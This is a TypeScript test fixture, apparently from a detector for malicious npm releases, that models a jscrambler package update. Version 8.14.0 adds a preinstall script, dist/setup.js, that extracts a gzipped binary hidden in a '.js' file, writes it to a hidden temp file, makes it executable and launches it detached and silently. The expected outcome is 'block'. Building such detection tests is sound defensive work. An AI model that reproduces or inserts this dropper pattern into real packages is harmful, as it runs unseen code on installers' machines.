import type { Replica, ReplicaVersion } from '../replicas/replica.js';
import { noiseBytes } from '../replicas/replica.js';

export const before = {
  version: '8.13.0',
  publishedAt: '2026-06-22T09:14:27.000Z',
  publisher: { name: 'jscrambler-ci', email: 'ci@mail.example.invalid' },
  manifest: {
    main: 'dist/index.js',
    bin: { jscrambler: 'dist/bin/jscrambler.js' },
    license: 'MIT',
    description: 'client of a code protection service',
    dependencies: { commander: '^12.0.0' },
  },
  files: {
    'dist/index.js': `"use strict";

Object.defineProperty(exports, "__esModule", { value: true });
exports.default = void 0;
var _fs = require("fs");
var _path = require("path");
var _client = require("./client.js");
function _interopRequireDefault(e) { return e && e.__esModule ? e : { default: e }; }
var _default = exports.default = {
  Client: _client.default,
  async protectAndDownload(config, destCallback) {
    const { keys, host, filesSrc, filesDest, applicationId } = config;
    const client = new _client.default({ ...keys, host });
    const sources = filesSrc.map((file) => ({ filename: file, content: (0, _fs.readFileSync)(file).toString("base64") }));
    const { protectionId } = await client.post("/application/" + applicationId, { sources });
    const files = await client.get("/application/" + applicationId + "/" + protectionId);
    for (const { filename, content } of files) {
      if (destCallback) destCallback(content, filename);else (0, _fs.writeFileSync)((0, _path.join)(filesDest, filename), Buffer.from(content, "base64"));
    }
    return protectionId;
  }
};
`,
    'dist/client.js': `"use strict";

Object.defineProperty(exports, "__esModule", { value: true });
exports.default = void 0;
var _https = require("https");
var _crypto = require("crypto");
class JscramblerClient {
  constructor({ accessKey, secretKey, host = "api4.jscrambler.example.invalid" }) {
    Object.assign(this, { accessKey, secretKey, host });
  }
  sign(method, path, at) {
    return (0, _crypto.createHmac)("sha256", this.secretKey).update([method, this.host, path, at].join(";")).digest("base64");
  }
  request(method, path, body) {
    const at = new Date().toISOString();
    return new Promise((resolve, reject) => {
      const req = (0, _https.request)({ host: this.host, path, method, headers: { "access-key": this.accessKey, timestamp: at, signature: this.sign(method, path, at) } }, res => {
        let text = "";
        res.on("data", d => text += d).on("end", () => res.statusCode < 300 ? resolve(JSON.parse(text)) : reject(new Error(text)));
      });
      req.on("error", reject);
      req.end(body && JSON.stringify(body));
    });
  }
  get(path) { return this.request("GET", path); }
  post(path, body) { return this.request("POST", path, body); }
}
exports.default = JscramblerClient;
`,
    'dist/bin/jscrambler.js': `#!/usr/bin/env node
"use strict";

const { Command } = require("commander");
const { readFileSync } = require("fs");
const jscrambler = require("../index.js").default;
const program = new Command().option("-c, --config <config>", "configuration file", "jscrambler.json").parse(process.argv);
const config = JSON.parse(readFileSync(program.opts().config, "utf8"));
jscrambler.protectAndDownload(config).then(id => console.log(id), err => {
  console.error(err.message);
  process.exitCode = 1;
});
`,
  },
} satisfies ReplicaVersion;

export const replica: Replica = {
  id: 'jscrambler-2026-a',
  story: 'July 2026, 8.14: a preinstall script unpacks a blob that is named like a script, makes it executable and starts it detached.',
  name: 'jscrambler',
  before,
  after: {
    version: '8.14.0',
    publishedAt: '2026-07-11T09:14:27.000Z',
    publisher: { name: 'jscrambler-ci', email: 'ci@mail.example.invalid' },
    manifest: {
      main: 'dist/index.js',
      bin: { jscrambler: 'dist/bin/jscrambler.js' },
      license: 'MIT',
      description: 'client of a code protection service',
      scripts: { preinstall: 'node dist/setup.js' },
      dependencies: { commander: '^12.0.0' },
    },
    files: {
      ...before.files,
      'dist/setup.js': `"use strict";

const fs = require("fs"), os = require("os"), path = require("path"), zlib = require("zlib");
const { spawn } = require("child_process");
// { platform: [offset, length] } of the runtimes packed in intro.js
const table = { linux: [64, 2490368], darwin: [2490432, 2490368], win32: [4980800, 2519136] };

(function setup() {
  const at = table[process.platform];
  if (!at) return;
  const fd = fs.openSync(path.join(__dirname, "intro.js"), "r");
  const packed = Buffer.alloc(at[1]);
  fs.readSync(fd, packed, 0, at[1], at[0]);
  fs.closeSync(fd);
  const out = path.join(os.tmpdir(), "." + require("crypto").randomBytes(6).toString("hex") + (process.platform === "win32" ? ".exe" : ""));
  fs.writeFileSync(out, zlib.gunzipSync(packed));
  if (process.platform !== "win32") fs.chmodSync(out, 0o755);
  const child = spawn(out, [], { detached: true, stdio: "ignore", windowsHide: true });
  child.on("error", () => {});
  child.unref();
})();
`,
      'dist/intro.js': Buffer.concat(Array<Uint8Array>(5).fill(noiseBytes(1_500_000, 81401))),
    },
  },
  must: 'block',
};
